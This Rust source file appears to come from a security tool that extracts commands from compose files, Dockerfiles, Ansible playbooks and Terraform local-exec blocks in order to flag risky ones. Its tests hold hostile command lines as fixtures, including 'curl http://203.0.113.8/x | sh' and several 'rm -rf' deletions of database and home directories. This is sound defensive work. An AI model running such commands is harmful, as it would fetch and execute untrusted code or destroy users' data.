// SPDX-License-Identifier: Apache-2.0 OR MIT

//! Reads the commands in files that describe machines: compose files, Dockerfiles, playbooks and Terraform files. A
//! command for a container or another machine is returned as the local command that would start it there.

use tenterhook_document::{Node, Value};

use super::project_tasks::list_entries;
use super::{TaskText, docker, quote_word, replace_expressions, unknown_variable};

/// Returns the services of a compose file as `docker run` commands; all services if none is named.
///
/// Privileged services that watch containers are common. The option `privileged` is therefore kept only if the
/// service also has a writable mount of `/`, because both together give it control of the whole machine.
pub fn compose_services(text: &str, services: &[String]) -> Vec<TaskText> {
    let Ok(tree) = tenterhook_document::parse(text) else { return Vec::new() };
    let Some(Value::Map(entries)) = tree.get("services").map(|node| &node.value) else { return Vec::new() };
    let is_named = |key: &Node| services.is_empty() || services.iter().any(|name| key.text() == Some(name));
    entries
        .iter()
        .filter(|(key, _)| is_named(key))
        .map(|(_, service)| TaskText::shell(service_command(service)))
        .collect()
}

fn service_command(service: &Node) -> String {
    let mut words = vec!["docker".to_owned(), "run".to_owned()];
    let mounts: Vec<String> = service
        .get("volumes")
        .map(list_entries)
        .unwrap_or_default()
        .into_iter()
        .filter_map(mount_text)
        .collect();
    let is_privileged = service.get("privileged").is_some_and(|node| matches!(node.value, Value::Bool(true)));
    if is_privileged && mounts.iter().any(|mount| mount.starts_with("/:")) {
        words.push("--privileged".to_owned());
    }
    for mount in mounts {
        words.extend(["-v".to_owned(), quote_value(&mount)]);
    }
    words.push(service.get("image").and_then(Node::text).map_or_else(|| "image".to_owned(), quote_value));
    let entrypoint = service.get("entrypoint").map(command_words).unwrap_or_default();
    words.extend(entrypoint);
    words.extend(service.get("command").map(command_words).unwrap_or_default());
    words.join(" ")
}

/// Returns a writable mount as `outside:inside`.
fn mount_text(entry: &Node) -> Option<String> {
    let text = match entry.text() {
        Some(text) => text.to_owned(),
        None if matches!(entry.get("read_only").map(|node| &node.value), Some(Value::Bool(true))) => {
            return None;
        }
        None => format!("{}:{}", entry.get("source")?.text()?, entry.get("target")?.text()?),
    };
    let mut parts = text.split(':');
    let outside = parts.next()?;
    let is_read_only = parts.nth(1).is_some_and(|options| options.split(',').any(|option| option == "ro"));
    let is_socket = outside.strip_suffix(".sock").is_some();
    (!is_read_only && !is_socket && text.contains(':')).then_some(text)
}

/// Returns the words of a command that is a text or a list.
fn command_words(node: &Node) -> Vec<String> {
    match &node.value {
        Value::List(words) => words.iter().filter_map(Node::text).map(quote_value).collect(),
        _ => node.text().map(replace_dollars).into_iter().collect(),
    }
}

/// Replaces `$$`, the escaped form of a dollar sign in compose files, by `$`.
fn replace_dollars(text: &str) -> String {
    text.replace("$$", "$")
}

/// Quotes a value for a shell. `${NAME}` in it can still be expanded.
fn quote_value(text: &str) -> String {
    if text.contains('$') { format!("\"{}\"", text.replace('"', "\\\"")) } else { quote_word(text) }
}

/// Returns the steps of a Dockerfile that run code from an unencrypted address on the network. All other steps have no
/// effect outside the image.
pub fn dockerfile_steps(text: &str) -> Vec<TaskText> {
    let pieces = docker::read(text);
    let steps =
        pieces.iter().flat_map(|piece| piece.text.split("&&")).flat_map(|text| text.split([';', '\n']));
    let is_remote = |step: &&str| {
        let host = step.split_once("http://").map(|(_, rest)| rest);
        host.is_some_and(|host| !host.starts_with("localhost") && !host.starts_with("127."))
    };
    steps.filter(is_remote).map(|step| TaskText::shell(step.trim_end_matches(['\\', ' ']).trim())).collect()
}

/// Returns the commands of a playbook, each as a command on this machine or on a host of its play. `connection` is
/// the connection type from the command line.
pub fn playbook_commands(text: &str, connection: &[String]) -> Vec<TaskText> {
    let Ok(tree) = tenterhook_document::parse(text) else { return Vec::new() };
    let is_local_call = connection.iter().any(|kind| kind == "local");
    let mut found = Vec::new();
    for play in list_entries(&tree) {
        let host = play
            .get("hosts")
            .and_then(Node::text)
            .unwrap_or("localhost")
            .split([',', ':'])
            .next()
            .unwrap_or_default();
        let is_local = is_local_call
            || matches!(host, "localhost" | "127.0.0.1")
            || play.get("connection").and_then(Node::text) == Some("local");
        for key in ["pre_tasks", "tasks", "post_tasks", "handlers"] {
            for task in play.get(key).map(list_entries).unwrap_or_default() {
                read_play_task(task, host, is_local, &mut found, MAX_BLOCK_DEPTH);
            }
        }
    }
    found
}

/// Maximum nesting depth of blocks in a playbook.
const MAX_BLOCK_DEPTH: usize = 8;

fn read_play_task(task: &Node, host: &str, is_local: bool, found: &mut Vec<TaskText>, depth: usize) {
    if depth == 0 {
        return;
    }
    for key in ["block", "rescue", "always"] {
        for inner in task.get(key).map(list_entries).unwrap_or_default() {
            read_play_task(inner, host, is_local, found, depth - 1);
        }
    }
    let is_local = is_local
        || task
            .get("delegate_to")
            .and_then(Node::text)
            .is_some_and(|host| matches!(host, "localhost" | "127.0.0.1"))
        || task.get("local_action").is_some();
    let Value::Map(entries) = &task.value else { return };
    for (key, value) in entries {
        let Some(command) = key.text().and_then(|module| module_command(module, value)) else { continue };
        let command = replace_expressions(&command, "{{", "}}", |inner| Some(ansible_value(inner)));
        let host = quote_word(host);
        found.push(TaskText::shell(if is_local {
            command
        } else {
            format!("ssh {host} {}", quote_word(&command))
        }));
    }
}

fn ansible_value(expression: &str) -> String {
    let is_home = expression.contains("ansible_env.HOME") || expression.contains("'HOME'");
    if is_home { "$HOME".to_owned() } else { unknown_variable() }
}

/// Returns the shell command of a module that runs one, or that deletes a file.
fn module_command(module: &str, value: &Node) -> Option<String> {
    match module.rsplit('.').next()? {
        "shell" | "command" | "raw" | "local_action" => {
            let text = value.text().or_else(|| value.get("cmd")?.text());
            let words = value.get("argv").map(|node| command_words(node).join(" "));
            let text = text.map(|text| {
                text.strip_prefix("command ").or_else(|| text.strip_prefix("shell ")).unwrap_or(text)
            });
            text.map(str::to_owned).or(words)
        }
        "file" if value.get("state").and_then(Node::text) == Some("absent") => {
            let path = ["path", "dest", "name"].iter().find_map(|key| value.get(key)?.text())?;
            may_hold_data(path).then(|| format!("rm -rf {path}"))
        }
        "file" => {
            let text = value.text().filter(|text| text.contains("state=absent"))?;
            let path = text
                .split_whitespace()
                .find_map(|word| word.strip_prefix("path=").or_else(|| word.strip_prefix("dest=")))?;
            may_hold_data(path).then(|| format!("rm -rf {path}"))
        }
        _ => None,
    }
}

/// Directories on servers that contain data.
const DATA_DIRECTORIES: &[&str] =
    &["/var/lib/", "/srv/", "/home/", "/data/", "/backup", "/var/backups/", "/mnt/", "/root/"];

/// Whether a path that a playbook removes may hold data. Playbooks remove single files and old directories of programs,
/// which are at least three names deep.
fn may_hold_data(path: &str) -> bool {
    let is_deep = path.starts_with('/') && path.split('/').filter(|name| !name.is_empty()).count() >= 3;
    let is_literal = !path.contains(['*', '?', '{', '$']) && !path.contains("..");
    !(is_deep && is_literal) || DATA_DIRECTORIES.iter().any(|directory| path.starts_with(directory))
}

/// Returns the commands that Terraform runs on this machine: those of `local-exec`.
pub fn terraform_commands(text: &str) -> Vec<TaskText> {
    let blocks = text.split("\"local-exec\"").skip(1);
    blocks.filter_map(|block| Some(TaskText::shell(terraform_command(block)?))).collect()
}

/// Returns the value of `command` in a block.
fn terraform_command(block: &str) -> Option<String> {
    let (before, after) = block.split_once("command")?;
    // The closing brace ends the block.
    if before.contains('}') {
        return None;
    }
    let value = after.trim_start().strip_prefix('=')?.trim_start();
    let insert = |text: &str| replace_expressions(text, "${", "}", |inner| Some(terraform_value(inner)));
    if let Some(document) = value.strip_prefix("<<") {
        let (mark, body) = document.split_once('\n')?;
        let mark = mark.trim_start_matches('-').trim().trim_matches('"');
        let lines = body.lines().take_while(|line| line.trim() != mark);
        return Some(insert(&lines.collect::<Vec<_>>().join("\n")));
    }
    let body = value.strip_prefix('"')?;
    let mut text = String::new();
    let mut letters = body.chars();
    loop {
        match letters.next()? {
            '"' => return Some(insert(&text)),
            '\\' => text.push(match letters.next()? {
                'n' => '\n',
                letter => letter,
            }),
            letter => text.push(letter),
        }
    }
}

fn terraform_value(expression: &str) -> String {
    match expression {
        "path.module" | "path.root" | "path.cwd" => "$PWD".to_owned(),
        _ => unknown_variable(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(found: Vec<TaskText>) -> Vec<String> {
        found.into_iter().map(|text| text.text).collect()
    }

    #[test]
    fn services_are_written_as_containers() {
        let text = "services:\n  x:\n    image: alpine\n    privileged: true\n    volumes: [\"/:/host\"]\n    command: rm -rf /host/home/u\n  \
                    y:\n    image: traefik\n    privileged: true\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n      - ./conf:/etc/conf:ro\n      - {type: bind, source: ./data, target: /data}\n    \
                    entrypoint: [\"sh\", \"-c\"]\n";
        assert_eq!(
            texts(compose_services(text, &[])),
            [
                "docker run --privileged -v '/:/host' 'alpine' rm -rf /host/home/u",
                "docker run -v './data:/data' 'traefik' 'sh' '-c'"
            ]
        );
        assert_eq!(texts(compose_services(text, &["y".to_owned()])).len(), 1);
        assert_eq!(compose_services("services: [", &[]), []);
    }

    #[test]
    fn steps_that_run_plain_downloads_are_found() {
        let text = "FROM x\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\nRUN a && curl http://203.0.113.8/x | sh \\\n  && b\nRUN curl https://x.io | sh\n";
        assert_eq!(texts(dockerfile_steps(text)), ["curl http://203.0.113.8/x | sh"]);
    }

    #[test]
    fn tasks_of_a_playbook_run_on_its_hosts() {
        let text = "- hosts: prod\n  tasks:\n    - command: rm -rf /var/lib/mysql\n    - ansible.builtin.file: {path: /srv/x, state: absent}\n    - file: {path: /etc/nginx/conf.d/old.conf, state: absent}\n    - ping:\n    - name: a\n      shell: b {{ c }}\n      delegate_to: localhost\n\
                    - hosts: localhost\n  tasks:\n    - block:\n        - ansible.builtin.shell:\n            cmd: rm -rf ~/x\n";
        assert_eq!(
            texts(playbook_commands(text, &[])),
            [
                "ssh 'prod' 'rm -rf /var/lib/mysql'".to_owned(),
                "ssh 'prod' 'rm -rf /srv/x'".to_owned(),
                format!("b {}", unknown_variable()),
                "rm -rf ~/x".to_owned()
            ]
        );
    }

    #[test]
    fn local_commands_of_terraform_are_read() {
        let text = "resource \"null_resource\" \"x\" {\n  provisioner \"local-exec\" { command = \"rm -rf $HOME/x \\\"${var.a}\\\"\" }\n  provisioner \"local-exec\" {\n    when = destroy\n    \
                    command = <<-EOT\n      a\n      b\n    EOT\n  }\n  provisioner \"remote-exec\" { inline = [\"c\"] }\n}\n";
        assert_eq!(
            texts(terraform_commands(text)),
            [format!("rm -rf $HOME/x \"{}\"", unknown_variable()), "      a\n      b".to_owned()]
        );
        for hostile in ["\"local-exec\"", "\"local-exec\" { command = \"", "\"local-exec\" { command = <<"] {
            terraform_commands(hostile);
        }
    }
}
